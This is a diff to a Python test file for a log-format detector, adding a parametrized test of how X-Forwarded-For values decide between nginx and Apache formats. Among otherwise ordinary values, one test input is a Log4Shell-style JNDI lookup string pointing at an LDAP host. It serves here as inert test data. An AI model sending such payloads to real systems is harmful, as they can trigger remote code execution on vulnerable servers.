@@ -230,12 +230,35 @@ def test_detect_takes_no_identd_for_a_host() -> None:
         ("envoy", '[2025-04-15T20:17:03Z] "- - -" 0 - 1 2 3 - "-" "-" "-" "-"'),
         ("traefik", COMBINED),
         ("nginx_main", COMBINED),
-        ("nginx_main", f'{COMBINED} "text/html; charset=utf-8"'),
+        ("nginx_main", f"{COMBINED} text/html"),
     ],
 )
 def test_other_lines_do_not_fit(name: str, line: str) -> None:
     with pytest.raises(FormatError):
         REGISTRY[name].compile(FormatOptions())(line)
+
+
+# A client may send any text as X-Forwarded-For, so the format takes it; that a log has this format, addresses show.
+@pytest.mark.parametrize(
+    ("last", "name"),
+    [
+        ("203.0.113.7", "nginx_main"),
+        ("203.0.113.7, 198.51.100.2", "nginx_main"),
+        ("2001:db8::1,[2001:db8::2]:443, unknown, 198.51.100.2:80", "nginx_main"),
+        ("-", "nginx_main"),
+        ("text/html; charset=utf-8", "apache_combined"),
+        ("2.50", "apache_combined"),
+        ("www.example.com", "apache_combined"),
+        ("${jndi:ldap://203.0.113.7/a}", "apache_combined"),
+    ],
+)
+def test_what_shows_the_format_main(last: str, name: str) -> None:
+    line = f'{COMBINED} "{last}"'
+    best = detect([line]).best
+    assert best is not None
+    assert best.format.name == name
+    row = REGISTRY["nginx_main"].compile(FormatOptions())(line)
+    assert row["http_x_forwarded_for"] == (None if last == "-" else last)
 
 
 # Lines that fit in no way take time in proportion to their length.
